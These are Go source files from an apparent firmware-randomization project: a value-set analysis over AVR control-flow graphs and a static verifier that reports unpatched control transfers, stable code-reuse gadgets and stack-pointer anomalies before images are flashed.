// absAdd enumerates x+y+cin over the operand cross product (or the
// diagonal when both operands are the same register), returning the
// result set and the precise carry possibilities.
func absAdd(a, b ByteSet, cin Flag, same bool) (ByteSet, Flag) {
	cis := cinVals(cin)
	av := a.Values()
	bv := b.Values()
	n := len(bv)
	if same {
		n = 1
	}
	if len(av) == 0 || len(bv) == 0 || len(cis) == 0 {
		return ByteSet{}, 0
	}
	if len(av)*n*len(cis) > binCap {
		return Top(), FlagBoth
	}
	var res ByteSet
	var cf Flag
	for _, x := range av {
		ys := bv
		if same {
			ys = []byte{x}
		}
		for _, y := range ys {
			for _, ci := range cis {
				s := int(x) + int(y) + int(ci)
				res = res.Add(byte(s))
				cf |= FlagOf(s > 0xFF)
			}
		}
	}
	return res, cf
}

// absSub enumerates x-y-cin, returning the result set and the precise
// borrow possibilities.
func absSub(a, b ByteSet, cin Flag, same bool) (ByteSet, Flag) {
	cis := cinVals(cin)
	av := a.Values()
	bv := b.Values()
	n := len(bv)
	if same {
		n = 1
	}
	if len(av) == 0 || len(bv) == 0 || len(cis) == 0 {
		return ByteSet{}, 0
	}
	if len(av)*n*len(cis) > binCap {
		return Top(), FlagBoth
	}
	var res ByteSet
	var cf Flag
	for _, x := range av {
		ys := bv
		if same {
			ys = []byte{x}
		}
		for _, y := range ys {
			for _, ci := range cis {
				res = res.Add(x - y - ci)
				cf |= FlagOf(int(y)+int(ci) > int(x))
			}
		}
	}
	return res, cf
}

func absLogic(a, b ByteSet, op avr.Op, same bool) ByteSet {
	av := a.Values()
	bv := b.Values()
	n := len(bv)
	if same {
		n = 1
	}
	if len(av) == 0 || len(bv) == 0 {
		return ByteSet{}
	}
	if len(av)*n > binCap {
		return Top()
	}
	var res ByteSet
	for _, x := range av {
		ys := bv
		if same {
			ys = []byte{x}
		}
		for _, y := range ys {
			switch op {
			case avr.OpAND, avr.OpANDI:
				res = res.Add(x & y)
			case avr.OpOR, avr.OpORI:
				res = res.Add(x | y)
			case avr.OpEOR:
				res = res.Add(x ^ y)
			}
		}
	}
	return res
}

// arithFlags applies the ADD/SUB-family flag writes: precise C and Z,
// N from the result sign, everything else unknown.
func (st *State) arithFlags(res ByteSet, cf Flag) {
	st.Flags[avr.FlagC] = cf
	st.Flags[avr.FlagZ] = zFromRes(res)
	st.Flags[avr.FlagN] = signFlag(res)
	st.Flags[avr.FlagV] = FlagBoth
	st.Flags[avr.FlagS] = FlagBoth
	st.Flags[avr.FlagH] = FlagBoth
}

// subKeepZFlags is arithFlags for the CPC/SBC/SBCI family, whose Z can
// only be cleared (multi-byte compare semantics).
func (st *State) subKeepZFlags(res ByteSet, cf Flag) {
	prevZ := st.Flags[avr.FlagZ]
	st.arithFlags(res, cf)
	var zf Flag
	if res.Size() > 1 || (!res.IsEmpty() && !res.Has(0)) {
		zf |= FlagClear
	}
	if res.Has(0) {
		zf |= prevZ
	}
	st.Flags[avr.FlagZ] = zf
}

func (st *State) logicFlags(res ByteSet) {
	st.Flags[avr.FlagV] = FlagClear
	st.Flags[avr.FlagZ] = zFromRes(res)
	n := signFlag(res)
	st.Flags[avr.FlagN] = n
	st.Flags[avr.FlagS] = n // S = N xor V and V = 0
}

func zFromRes(res ByteSet) Flag {
	var f Flag
	if res.Has(0) {
		f |= FlagSet
	}
	if res.Size() > 1 || (!res.IsEmpty() && !res.Has(0)) {
		f |= FlagClear
	}
	return f
}

func signFlag(res ByteSet) Flag {
	if res.IsTop() {
		return FlagBoth
	}
	var f Flag
	for _, v := range res.Values() {
		f |= FlagOf(v&0x80 != 0)
		if f == FlagBoth {
			break
		}
	}
	return f
}

// bitFlag returns the possibilities of bit b across the set.
func bitFlag(s ByteSet, b int) Flag {
	if s.IsTop() {
		return FlagBoth
	}
	var f Flag
	for _, v := range s.Values() {
		f |= FlagOf(v&(1<<b) != 0)
		if f == FlagBoth {
			break
		}
	}
	return f
}

// sregSet builds the abstract SREG byte from the flag lattice.
func sregSet(st *State) ByteSet {
	s := FromBytes(0)
	for i := 0; i < 8; i++ {
		f := st.Flags[i]
		var next ByteSet
		if f.MayClear() {
			next = s
		}
		if f.MaySet() {
			bit := byte(1 << i)
			next = next.Union(s.Map1(func(b byte) byte { return b | bit }))
		}
		s = next
	}
	return s
}
