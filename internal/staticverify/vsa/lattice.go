// Package vsa is a value-set analysis over recovered AVR control-flow
// graphs (paper §VI context: proving where indirect control transfers
// can land after randomization). It abstracts each 8-bit register as
// the exact set of byte values it may hold (a 256-bit set; the full set
// is top), the SREG flags as may-be-0/may-be-1 pairs, and the stack
// height as an interval of bytes pushed since function entry. The
// domains are finite, so a worklist fixpoint terminates without
// widening; a visit-count cap widens anyway to bound time on
// pathological loops.
//
// Everything here must be deterministic: results feed byte-stable
// verification reports and a cached per-base fast path that translates
// them across permutations.
package vsa

import "math/bits"

// ByteSet is the abstract value of one 8-bit quantity: the set of
// concrete values it may hold. The zero value is the empty set
// (unreachable); the full set is top (unknown).
type ByteSet struct {
	bits [4]uint64
}

// Top returns the full set.
func Top() ByteSet {
	return ByteSet{bits: [4]uint64{^uint64(0), ^uint64(0), ^uint64(0), ^uint64(0)}}
}

// Const returns the singleton set {v}.
func Const(v byte) ByteSet {
	var s ByteSet
	s.bits[v>>6] = 1 << (v & 63)
	return s
}

// FromBytes returns the set of the given values.
func FromBytes(vs ...byte) ByteSet {
	var s ByteSet
	for _, v := range vs {
		s.bits[v>>6] |= 1 << (v & 63)
	}
	return s
}

// Has reports whether v is in the set.
func (s ByteSet) Has(v byte) bool {
	return s.bits[v>>6]&(1<<(v&63)) != 0
}

// Add returns the set with v added.
func (s ByteSet) Add(v byte) ByteSet {
	s.bits[v>>6] |= 1 << (v & 63)
	return s
}

// Union returns the join of two sets.
func (s ByteSet) Union(o ByteSet) ByteSet {
	for i := range s.bits {
		s.bits[i] |= o.bits[i]
	}
	return s
}

// Intersect returns the meet of two sets.
func (s ByteSet) Intersect(o ByteSet) ByteSet {
	for i := range s.bits {
		s.bits[i] &= o.bits[i]
	}
	return s
}

// Size returns the number of values in the set.
func (s ByteSet) Size() int {
	n := 0
	for _, w := range s.bits {
		n += popcount(w)
	}
	return n
}

// IsTop reports whether the set is the full set.
func (s ByteSet) IsTop() bool {
	return s.bits[0]&s.bits[1]&s.bits[2]&s.bits[3] == ^uint64(0)
}

// IsEmpty reports whether the set is empty.
func (s ByteSet) IsEmpty() bool {
	return s.bits[0]|s.bits[1]|s.bits[2]|s.bits[3] == 0
}

// Equal reports set equality.
func (s ByteSet) Equal(o ByteSet) bool {
	return s.bits == o.bits
}

// Values returns the members in ascending order.
func (s ByteSet) Values() []byte {
	out := make([]byte, 0, s.Size())
	for i, w := range s.bits {
		for w != 0 {
			b := trailingZeros(w)
			out = append(out, byte(i*64+b))
			w &= w - 1
		}
	}
	return out
}

// Map1 applies f to every member. If the set is top and f is not known
// to shrink it, the caller gets the exact image anyway (256 iterations
// is cheap and often collapses: e.g. AND with a constant).
func (s ByteSet) Map1(f func(byte) byte) ByteSet {
	var out ByteSet
	for i, w := range s.bits {
		for w != 0 {
			b := trailingZeros(w)
			out = out.Add(f(byte(i*64 + b)))
			w &= w - 1
		}
	}
	return out
}

func popcount(w uint64) int      { return bits.OnesCount64(w) }
func trailingZeros(w uint64) int { return bits.TrailingZeros64(w) }

// Flag is the abstract value of one SREG bit: bit 0 set means the flag
// may be 0, bit 1 set means it may be 1. FlagBoth is top; 0 is bottom.
type Flag uint8

const (
	FlagClear Flag = 1
	FlagSet   Flag = 2
	FlagBoth  Flag = 3
)

// Join returns the union of two flag abstractions.
func (f Flag) Join(o Flag) Flag { return f | o }

// MayClear reports whether the flag may be 0.
func (f Flag) MayClear() bool { return f&FlagClear != 0 }

// MaySet reports whether the flag may be 1.
func (f Flag) MaySet() bool { return f&FlagSet != 0 }

// FlagOf returns the abstraction of a concrete flag value.
func FlagOf(set bool) Flag {
	if set {
		return FlagSet
	}
	return FlagClear
}

// Height is the abstract stack height: bytes pushed since function
// entry as a [Lo, Hi] interval, or Top (unknown — e.g. after the
// function re-pointed SP to a value the analysis cannot relate to the
// entry SP). The zero value is the exact entry height [0, 0].
type Height struct {
	Lo, Hi int32
	Top    bool
}

// HeightTop is the unknown stack height.
func HeightTop() Height { return Height{Top: true} }

// Join returns the interval hull of two heights.
func (h Height) Join(o Height) Height {
	if h.Top || o.Top {
		return HeightTop()
	}
	if o.Lo < h.Lo {
		h.Lo = o.Lo
	}
	if o.Hi > h.Hi {
		h.Hi = o.Hi
	}
	return h
}

// Add shifts the interval by n bytes.
func (h Height) Add(n int32) Height {
	if h.Top {
		return h
	}
	h.Lo += n
	h.Hi += n
	return h
}

// Equal reports interval equality.
func (h Height) Equal(o Height) bool {
	if h.Top || o.Top {
		return h.Top == o.Top
	}
	return h.Lo == o.Lo && h.Hi == o.Hi
}

// IsZero reports the exact entry height [0, 0].
func (h Height) IsZero() bool { return !h.Top && h.Lo == 0 && h.Hi == 0 }

// Singleton reports whether the height is one exact value.
func (h Height) Singleton() bool { return !h.Top && h.Lo == h.Hi }
