package vsa

// Val is the abstract value of one register: a byte set plus optional
// table provenance. When Tab is non-nil the concrete value is the byte
// at one of those flash offsets *in the image being verified* — exact
// knowledge even for offsets the pointer patcher rewrites per
// permutation, which is how icall targets loaded from a patched
// dispatch table resolve without baking in one permutation's bytes.
// Set always independently over-approximates the value (it is Top when
// the offsets cover patched bytes), so arithmetic may drop Tab and use
// Set alone.
type Val struct {
	Set ByteSet
	Tab []uint32 // sorted flash byte offsets, nil if untracked
}

func topVal() Val { return Val{Set: Top()} }

func joinVal(a, b Val) Val {
	out := Val{Set: a.Set.Union(b.Set)}
	out.Tab = joinTabs(a.Tab, b.Tab)
	return out
}

// joinTabs merges two provenance offset lists. A value from either of
// two tables is a value from the union of their offsets; unbounded
// growth is cut at tabCap.
func joinTabs(a, b []uint32) []uint32 {
	if a == nil || b == nil {
		return nil
	}
	out := make([]uint32, 0, len(a)+len(b))
	i, j := 0, 0
	for i < len(a) || j < len(b) {
		switch {
		case j >= len(b) || (i < len(a) && a[i] < b[j]):
			out = append(out, a[i])
			i++
		case i >= len(a) || b[j] < a[i]:
			out = append(out, b[j])
			j++
		default:
			out = append(out, a[i])
			i, j = i+1, j+1
		}
	}
	if len(out) > tabCap {
		return nil
	}
	return out
}

func equalTabs(a, b []uint32) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// Domain size caps. All are precision/speed trade-offs, never
// soundness: exceeding a cap degrades to top.
const (
	// binCap bounds the cross product a binary transfer enumerates.
	binCap = 4096
	// addrCap bounds how many concrete addresses a pointer-pair load
	// or store resolves to.
	addrCap = 64
	// tabCap bounds table-provenance offset lists.
	tabCap = 64
	// pairCap bounds the cross product of 16-bit pair arithmetic
	// (ADIW/SBIW, pointer post-increment).
	pairCap = 1024
	// visitCap is the per-block fixpoint visit budget before joins
	// widen changing components straight to top.
	visitCap = 24
)

// Role marks a register as holding one half of the stack pointer, read
// by IN at a known exact stack height. Two matching halves read at the
// same height establish an SP tag on their register pair.
type Role struct {
	Kind uint8 // roleNone, roleSPL, roleSPH
	H    Height
}

const (
	roleNone uint8 = iota
	roleSPL
	roleSPH
)

// Tag relates an even register pair to the entry stack pointer:
// pair = SPentry - Delta. It survives the pair arithmetic the compiler
// uses for frame setup (ADIW/SBIW, fused SUBI+SBCI) and MOVW copies,
// and lets a later OUT SPH/OUT SPL sequence re-establish an exact
// stack height.
type Tag struct {
	Ok    bool
	Delta Height
}

// Pending tracks a half-written stack pointer: the first OUT to
// SPH/SPL makes the height unknown until the second half lands and the
// pair pattern is recognized.
type Pending struct {
	Half    uint8 // pendNone, pendWroteSPH, pendWroteSPL
	Pair    int8  // source pair index for tagged writes, -1 for const
	Delta   Height
	IsConst bool
}

const (
	pendNone uint8 = iota
	pendWroteSPH
	pendWroteSPL
)

// State is the abstract machine state at one program point.
type State struct {
	Bot   bool // unreachable
	Regs  [32]Val
	Flags [8]Flag
	// EIND and RAMPZ mirror the extended-pointer I/O registers.
	EIND, RAMPZ ByteSet
	H           Height
	Roles       [32]Role
	Tags        [16]Tag
	// Words is matched-word provenance per even register pair: non-nil
	// means the 16-bit pair value equals the little-endian word at one
	// of these flash byte offsets in the image being verified. Unlike
	// the per-half Tab sets it preserves the lo/hi correlation, which
	// only the two-instruction adjacent-load idioms can prove (the
	// second load's address is the first's plus one by construction).
	Words [16][]uint32
	Pend  Pending
	// NegH latches that the height lower bound went negative (the
	// function pops into its caller's frame) — sticky for reporting.
	NegH bool
}

// EntryState is the abstract state at a function entry: nothing known
// about registers or flags, stack height exactly zero.
func EntryState() *State {
	st := &State{EIND: Top(), RAMPZ: Top()}
	for i := range st.Regs {
		st.Regs[i] = topVal()
	}
	for i := range st.Flags {
		st.Flags[i] = FlagBoth
	}
	return st
}

// Clone returns a deep copy.
func (st *State) Clone() *State {
	out := *st
	return &out
}

// Join merges o into st, returning whether st changed. widen forces
// any changing component straight to top so a capped fixpoint
// terminates immediately.
func (st *State) Join(o *State, widen bool) bool {
	if o.Bot {
		return false
	}
	if st.Bot {
		*st = *o
		return true
	}
	changed := false
	for i := range st.Regs {
		j := joinVal(st.Regs[i], o.Regs[i])
		if !j.Set.Equal(st.Regs[i].Set) || !equalTabs(j.Tab, st.Regs[i].Tab) {
			if widen {
				j = topVal()
			}
			st.Regs[i] = j
			changed = true
		}
	}
	for i := range st.Flags {
		if j := st.Flags[i].Join(o.Flags[i]); j != st.Flags[i] {
			st.Flags[i] = j
			changed = true
		}
	}
	if j := st.EIND.Union(o.EIND); !j.Equal(st.EIND) {
		st.EIND = j
		changed = true
	}
	if j := st.RAMPZ.Union(o.RAMPZ); !j.Equal(st.RAMPZ) {
		st.RAMPZ = j
		changed = true
	}
	if j := st.H.Join(o.H); !j.Equal(st.H) {
		if widen {
			j = HeightTop()
		}
		st.H = j
		changed = true
	}
	for i := range st.Roles {
		if st.Roles[i].Kind != roleNone &&
			(st.Roles[i].Kind != o.Roles[i].Kind || !st.Roles[i].H.Equal(o.Roles[i].H)) {
			st.Roles[i] = Role{}
			changed = true
		}
	}
	for i := range st.Tags {
		switch {
		case !st.Tags[i].Ok:
		case !o.Tags[i].Ok:
			st.Tags[i] = Tag{}
			changed = true
		default:
			if j := st.Tags[i].Delta.Join(o.Tags[i].Delta); !j.Equal(st.Tags[i].Delta) {
				// The delta hull has unbounded height (a loop shifting a
				// tagged pair grows it every pass), so any change under
				// widening — and any non-singleton growth at all — drops
				// the tag instead of inching toward divergence. A tag is
				// only ever consumed at a singleton delta anyway.
				if widen || !j.Singleton() {
					st.Tags[i] = Tag{}
				} else {
					st.Tags[i].Delta = j
				}
				changed = true
			}
		}
	}
	for i := range st.Words {
		if st.Words[i] == nil {
			continue
		}
		if j := joinTabs(st.Words[i], o.Words[i]); !equalTabs(j, st.Words[i]) {
			if widen {
				j = nil
			}
			st.Words[i] = j
			changed = true
		}
	}
	if st.Pend != o.Pend && st.Pend.Half != pendNone {
		st.Pend = Pending{}
		changed = true
	}
	if o.NegH && !st.NegH {
		st.NegH = true
		changed = true
	}
	return changed
}

// setReg writes a register, killing any SP role/tag and matched-word
// provenance that depended on its old value.
func (st *State) setReg(r int, v Val) {
	st.Regs[r] = v
	st.Roles[r] = Role{}
	st.Tags[r/2] = Tag{}
	st.Words[r/2] = nil
}

// pairVal reads the 16-bit pair at even register lo as the cross
// product of its halves' sets: every concrete pair value the halves
// can combine to, a sound over-approximation of the matched pairs a
// real execution produces.
func (st *State) pairVal(lo int) (loS, hiS ByteSet) {
	return st.Regs[lo].Set, st.Regs[lo+1].Set
}

// pairAddrs enumerates the 16-bit values the pair at lo may hold, or
// nil when unbounded (either half top, or product above addrCap).
func (st *State) pairAddrs(lo int) []uint16 {
	return st.pairEnum(lo, addrCap)
}

// pairEnum is pairAddrs with an explicit product cap (pair arithmetic
// tolerates larger sets than address resolution).
func (st *State) pairEnum(lo, limit int) []uint16 {
	loS, hiS := st.pairVal(lo)
	nl, nh := loS.Size(), hiS.Size()
	if nl == 0 || nh == 0 || nl*nh > limit {
		return nil
	}
	out := make([]uint16, 0, nl*nh)
	for _, h := range hiS.Values() {
		for _, l := range loS.Values() {
			out = append(out, uint16(h)<<8|uint16(l))
		}
	}
	sortU16(out)
	return dedupU16(out)
}

func sortU16(xs []uint16) {
	for i := 1; i < len(xs); i++ {
		for j := i; j > 0 && xs[j] < xs[j-1]; j-- {
			xs[j], xs[j-1] = xs[j-1], xs[j]
		}
	}
}

func dedupU16(xs []uint16) []uint16 {
	out := xs[:0]
	for i, x := range xs {
		if i == 0 || x != out[len(out)-1] {
			out = append(out, x)
		}
	}
	return out
}

// setPair writes both halves of a 16-bit result set projected from the
// enumerated pair values.
func (st *State) setPair(lo int, pairs []uint16) {
	if pairs == nil {
		st.setReg(lo, topVal())
		st.setReg(lo+1, topVal())
		return
	}
	var loS, hiS ByteSet
	for _, p := range pairs {
		loS = loS.Add(byte(p))
		hiS = hiS.Add(byte(p >> 8))
	}
	st.setReg(lo, Val{Set: loS})
	st.setReg(lo+1, Val{Set: hiS})
}
