// Package staticverify proves MAVR-randomized firmware images correct
// before they are ever flashed. The rewriter in internal/core moves
// function blocks and patches every encoded control transfer and
// function pointer; a single missed patch bricks the board or — worse —
// leaves a stable gadget an attacker can reuse across randomizations
// (paper §V-B, §VI-B3). Running the image in the simulator only
// exercises the paths the workload happens to take; this package checks
// all of them statically.
//
// Three passes, all built on internal/avr's decoder:
//
//   - CFG recovery (Recover): a conservative control-flow graph and
//     call graph of an image, function by function. "Conservative" on
//     AVR means: every instruction inside a function symbol's extent is
//     decoded linearly (AVR instructions are 1 or 2 words, streams
//     cannot overlap), direct edges (jmp/call/rjmp/rcall/brbs/brbc and
//     the skip instructions) are recovered exactly, and indirect edges
//     (ijmp/icall/eijmp/eicall) are over-approximated by the full entry
//     set — every function start plus every fixed low-flash stub — since
//     the data-section pointer tables are the only sanctioned sources
//     of indirect targets. A function containing spm is self-modifying
//     and reported unverifiable rather than silently passed.
//
//   - Patch-completeness diff (VerifyPatches): a lockstep walk of the
//     original and randomized images proving that every direct
//     transfer, interrupt-vector entry and tabled function pointer was
//     remapped to exactly its relocated target, and that nothing else
//     changed. Any unpatched, mispatched or dangling edge is a
//     structured Finding.
//
//   - Residual gadget audit (AuditGadgets): internal/gadget.Scan over
//     both images, reporting gadget addresses that survive
//     randomization unchanged — the stable-gadget condition the paper's
//     V1–V3 attacks need. Survivors inside the shuffled region are
//     per-address warnings (usually a permutation fixed point);
//     survivors in fixed regions (vectors, stubs, data, calibration
//     table) are summarized as info, since they are invariants of the
//     firmware rather than rewriter defects.
//
// Verify composes the three passes into a Report. cmd/mavr-verify is
// the CLI; mavr-randomize runs Verify as an opt-out post-pass; and
// board.Master refuses to flash any image with error-severity findings.
package staticverify
