package staticverify

import (
	"encoding/json"
	"fmt"
)

// Severity ranks a finding. Only SevError findings make an image
// unflashable; warnings and info are reported but do not fail
// verification.
type Severity int

// Severities, weakest first.
const (
	SevInfo Severity = iota + 1
	SevWarn
	SevError
)

func (s Severity) String() string {
	switch s {
	case SevInfo:
		return "info"
	case SevWarn:
		return "warning"
	case SevError:
		return "error"
	}
	return fmt.Sprintf("severity(%d)", int(s))
}

// MarshalJSON renders the severity as its name.
func (s Severity) MarshalJSON() ([]byte, error) { return json.Marshal(s.String()) }

// UnmarshalJSON accepts what MarshalJSON emits (the severity name), so
// reports survive a JSON round trip — e.g. through the armory HTTP API.
func (s *Severity) UnmarshalJSON(b []byte) error {
	var name string
	if err := json.Unmarshal(b, &name); err != nil {
		return err
	}
	switch name {
	case "info":
		*s = SevInfo
	case "warning":
		*s = SevWarn
	case "error":
		*s = SevError
	default:
		return fmt.Errorf("unknown severity %q", name)
	}
	return nil
}

// Kind classifies what a finding is about.
type Kind string

// Finding kinds.
const (
	// KindUnpatchedTransfer: a direct jmp/call/rjmp/rcall or
	// conditional branch whose encoded target does not equal the
	// remapped original target.
	KindUnpatchedTransfer Kind = "unpatched-transfer"
	// KindUnpatchedVector: same defect inside the interrupt vector
	// table.
	KindUnpatchedVector Kind = "unpatched-vector"
	// KindUnpatchedPointer: a data-section function pointer that was
	// not rewritten to its relocated target.
	KindUnpatchedPointer Kind = "unpatched-pointer"
	// KindDanglingEdge: a control transfer or pointer whose target does
	// not decode, lands in a non-code region, or misses every function
	// entry it should hit.
	KindDanglingEdge Kind = "dangling-edge"
	// KindOpcodeMismatch: the instruction streams of original and
	// randomized image diverge beyond target patching.
	KindOpcodeMismatch Kind = "opcode-mismatch"
	// KindUndecodable: an invalid opcode inside a function body — the
	// instruction walk desynchronized, nothing after it is verifiable.
	KindUndecodable Kind = "undecodable"
	// KindUnverifiableSPM: the function contains spm; a self-modifying
	// flash region must be reported, never silently passed.
	KindUnverifiableSPM Kind = "spm-unverifiable"
	// KindInteriorTarget: a call or jump lands inside a function body
	// rather than on an entry (legal on real toolchains, suspicious
	// here).
	KindInteriorTarget Kind = "interior-target"
	// KindStableGadget: a gadget address that survives randomization
	// with identical bytes — the stable-gadget condition V1–V3 need.
	KindStableGadget Kind = "stable-gadget"
	// KindSizeMismatch: the randomized image is not the same length as
	// the original.
	KindSizeMismatch Kind = "size-mismatch"
	// KindStackViolation: value-set analysis disproved a function's
	// stack discipline — a path reaches RET with an unbalanced frame, or
	// pops below the entry stack pointer.
	KindStackViolation Kind = "stack-violation"
	// KindStackUnproven: the analysis could not prove stack discipline
	// (SP re-pointed to an untracked value, widened loop, or an indirect
	// jump exit) — not a defect, but not a proof either.
	KindStackUnproven Kind = "stack-unproven"
	// KindSPEscape: a store writes the stack pointer from a value the
	// analysis cannot relate to the entry SP — the paper's stk_move
	// pivot shape.
	KindSPEscape Kind = "sp-escape"
	// KindIndirectUnresolved: an icall/ijmp site whose target pointer
	// the value-set analysis could not bound; it keeps the entry-target
	// over-approximation.
	KindIndirectUnresolved Kind = "indirect-unresolved"
)

// Finding is one structured verification result.
type Finding struct {
	Kind     Kind     `json:"kind"`
	Severity Severity `json:"severity"`
	// Addr is the byte address in the randomized image the finding
	// anchors to.
	Addr uint32 `json:"addr"`
	// Block names the containing function, when known.
	Block string `json:"block,omitempty"`
	// Detail is the human-readable explanation.
	Detail string `json:"detail"`
}

func (f Finding) String() string {
	loc := fmt.Sprintf("0x%05X", f.Addr)
	if f.Block != "" {
		loc += " [" + f.Block + "]"
	}
	return fmt.Sprintf("%-7s %-18s %s: %s", f.Severity, f.Kind, loc, f.Detail)
}

// countBySeverity tallies findings at exactly severity s.
func countBySeverity(fs []Finding, s Severity) int {
	n := 0
	for _, f := range fs {
		if f.Severity == s {
			n++
		}
	}
	return n
}
